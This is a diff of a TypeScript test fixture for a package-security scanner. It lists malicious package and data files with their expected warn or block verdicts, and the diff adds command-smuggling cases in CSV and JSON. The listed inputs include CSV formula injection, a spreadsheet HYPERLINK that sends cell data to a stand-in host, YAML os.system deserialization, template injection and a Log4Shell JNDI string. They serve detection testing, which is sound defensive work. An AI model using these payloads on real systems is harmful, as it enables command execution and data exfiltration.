@@ -42,7 +42,7 @@ export const PACKAGE_ATTACKS: readonly (readonly [id: string, expected: Expected
   ["PK-002f", "warn", pkg({ resolutions: { "**/a": "github:x/a" } })],
   [
     "PK-002g",
-    "warn",
+    "block",
     { "package-lock.json": '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://cdn.example.invalid/a.tgz"}}}' },
   ],
   ["PK-002h", "block", pkg({ packageManager: "yarn@https://example.invalid/yarn.js" })],
@@ -189,6 +189,8 @@ export const PACKAGE_ATTACKS: readonly (readonly [id: string, expected: Expected
   ["PK-020", "warn", { "data/rows.csv": "a,b\n1,\"=cmd|' /C calc'!A0\"\n" }],
   ["PK-020b", "warn", { "data/rows.csv": 'a,=HYPERLINK("https://example.invalid?x="&A1)\n' }],
   ["PK-020c", "warn", { "data/a.yaml": "a: !!python/object/apply:os.system ['id']\n" }],
+  ["PK-020k", "block", { "data/rates.csv": "EUR,1000\nother,sum[$(id >&2)]+1\n" }],
+  ["PK-020l", "block", { "data/rates.json": '{"rate": "x[`id`]"}' }],
   ["PK-020d", "warn", { "data/a.json": '{"greeting": "{{ constructor.constructor(\'return process\')() }}"}' }],
   ["PK-020e", "warn", { "data/a.txt": "Hello {{ ''.__class__.__mro__[1].__subclasses__() }}\n" }],
   ["PK-020f", "warn", { "data/a.properties": "x=${jndi:ldap://example.invalid/a}\n" }],
